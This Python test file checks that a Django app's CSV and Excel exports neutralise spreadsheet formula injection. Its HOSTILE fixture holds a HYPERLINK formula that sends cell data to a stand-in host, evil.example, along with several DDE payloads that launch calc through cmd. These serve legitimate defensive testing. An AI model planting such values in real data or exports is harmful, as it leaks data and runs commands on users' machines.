"""Every export, read back: text that a spreadsheet would run as a formula stays text.

CSV cells beginning with = + - @ tab or CR carry a leading apostrophe (plain numbers such as
"-3.5" excepted); XLSX cells holding such text are text cells, never formulas; a control
character that the API accepted does not break the Excel file. The admin's exports import
back unchanged, apostrophes and all.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from partners.models import Institution
from rdportfolio.core.exports import FORMULA_TRIGGERS, formula_safe
from technologies.models import Technology
from tests.api.client import api
from tests.factories import FieldFactory, InstitutionFactory, TechnologyFactory
from tests.imports.files import upload

pytestmark = pytest.mark.django_db

HOSTILE = {
    "technology_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "technology_ko": "+1+cmd|' /C calc'!A0",
    "institution": "@SUM(1+1)*cmd|' /C calc'!A0",
    "field": "-2+3+cmd|' /C calc'!A0",
    "institution_ko": "=2*3",
    # Only where nothing trims it: the importer trims whitespace, as it always has.
    "tabbed": "\t=1+1",
}


@pytest.fixture
def hostile():
    field = FieldFactory(code="HX", name_en=HOSTILE["field"], name_ko=HOSTILE["field"])
    technology = TechnologyFactory(
        field=field, name_en=HOSTILE["technology_en"], name_ko=HOSTILE["technology_ko"]
    )
    institution = InstitutionFactory(name=HOSTILE["institution"], name_ko=HOSTILE["institution_ko"])
    InstitutionFactory(name=HOSTILE["tabbed"])
    return technology, institution


def _dangerous(cell: str) -> bool:
    return bool(cell) and cell[0] in FORMULA_TRIGGERS and formula_safe(cell) != cell


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_csv_safe(content: bytes, *expected: str) -> None:
    cells = csv_cells(content)
    assert not [cell for cell in cells if _dangerous(cell)]
    for value in expected:
        # The value is there, as text: a leading apostrophe and nothing lost.
        assert "'" + value in cells, value


def assert_xlsx_safe(content: bytes, *expected: str) -> None:
    workbook = load_workbook(io.BytesIO(content))  # formulas are read as formulas, not values
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    for value in expected:
        assert value in texts, value


def test_the_api_csv_lists_write_formulas_as_text(hostile, analyst):
    client = api(analyst)
    technologies = client.get("/api/v1/technologies/", {"format": "csv"})
    assert technologies.status_code == 200
    assert_csv_safe(
        b"".join(technologies.streaming_content),
        HOSTILE["technology_en"],
        HOSTILE["technology_ko"],
    )
    institutions = client.get("/api/v1/institutions/", {"format": "csv"})
    assert_csv_safe(
        b"".join(institutions.streaming_content),
        HOSTILE["institution"],
        HOSTILE["institution_ko"],
        HOSTILE["tabbed"],
    )


def test_the_api_xlsx_lists_hold_formulas_as_text_cells(hostile, analyst):
    client = api(analyst)
    technologies = client.get("/api/v1/technologies/", {"format": "xlsx"})
    assert technologies.status_code == 200
    assert_xlsx_safe(technologies.getvalue(), HOSTILE["technology_en"], HOSTILE["technology_ko"])
    institutions = client.get("/api/v1/institutions/", {"format": "xlsx"})
    assert_xlsx_safe(
        institutions.getvalue(),
        HOSTILE["institution"],
        HOSTILE["institution_ko"],
        HOSTILE["tabbed"],
    )


def test_a_single_record_in_csv_and_xlsx_is_safe_too(hostile, analyst):
    technology, _institution = hostile
    client = api(analyst)
    url = f"/api/v1/technologies/{technology.pk}/"
    assert_csv_safe(client.get(url, {"format": "csv"}).content, HOSTILE["technology_en"])
    assert_xlsx_safe(client.get(url, {"format": "xlsx"}).content, HOSTILE["technology_en"])


def test_plain_numbers_stay_numbers_in_csv(analyst):
    # A negative share or a signed amount must not gain an apostrophe: pandas reads it as a number.
    assert formula_safe("-3.5") == "-3.5"
    assert formula_safe("+12") == "+12"
    assert formula_safe(-3) == -3
    assert formula_safe("-3.5e1") == "'-3.5e1"
    assert formula_safe("=1") == "'=1"


def test_the_dashboard_csv_writes_formulas_as_text(hostile, cto_viewer):
    client = Client()
    client.force_login(cto_viewer)
    response = client.get(reverse("dashboards:technologies-csv"), {"q": "", "year": ""})
    assert response.status_code == 200
    assert_csv_safe(b"".join(response.streaming_content), HOSTILE["technology_en"])


@pytest.fixture
def editor_client(ministry_editor, monkeypatch):
    from rdportfolio.celery import app as celery_app

    monkeypatch.setitem(celery_app.conf, "task_always_eager", True)
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(ministry_editor)
    return client


def _admin_export(client, model, ids, file_format):
    opts = model._meta
    response = client.post(
        reverse(f"admin:{opts.app_label}_{opts.model_name}_changelist"),
        {"action": f"export_{file_format}", "_selected_action": ids, "index": 0},
    )
    assert response.status_code == 200, response.content[:500]
    return response.getvalue()


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_the_admin_exports_are_safe_and_import_back_unchanged(
    hostile, editor_client, django_capture_on_commit_callbacks, file_format
):
    technology, institution = hostile
    for kind, model, obj, values in [
        ("technologies", Technology, technology, [HOSTILE["technology_en"]]),
        ("institutions", Institution, institution, [HOSTILE["institution"]]),
    ]:
        content = _admin_export(editor_client, model, [obj.pk], file_format)
        if file_format == "csv":
            # The import's columns: the Korean-first export writes the name it reads back.
            assert_csv_safe(content, values[0])
        else:
            assert_xlsx_safe(content, values[0])
        job = upload(
            editor_client,
            kind,
            f"export.{file_format}",
            content,
            django_capture_on_commit_callbacks,
        )
        assert job.errors == [] or job.errors is None, job.errors
        assert (job.rows_total, job.unchanged_count) == (1, 1), job.errors


def test_a_control_character_the_api_accepted_does_not_break_the_excel_export(
    editor_client, ministry_editor
):
    created = api(ministry_editor).post(
        "/api/v1/institutions/",
        {"name": "Bell\x07 Labs\x01", "country": "US", "kind": "research_institute"},
        format="json",
    )
    if created.status_code == 201:
        pk = created.json()["id"]
    else:  # the API refuses control characters: then one stored by other means
        pk = InstitutionFactory(name="Bell\x07 Labs\x01").pk
    content = _admin_export(editor_client, Institution, [pk], "xlsx")
    workbook = load_workbook(io.BytesIO(content))
    names = [row[0] for row in workbook["data"].iter_rows(min_row=2, values_only=True)]
    assert len(names) == 1 and "Bell" in names[0] and "Labs" in names[0]
    api_file = api(ministry_editor).get(f"/api/v1/institutions/{pk}/", {"format": "xlsx"})
    assert api_file.status_code == 200
    load_workbook(io.BytesIO(api_file.content))
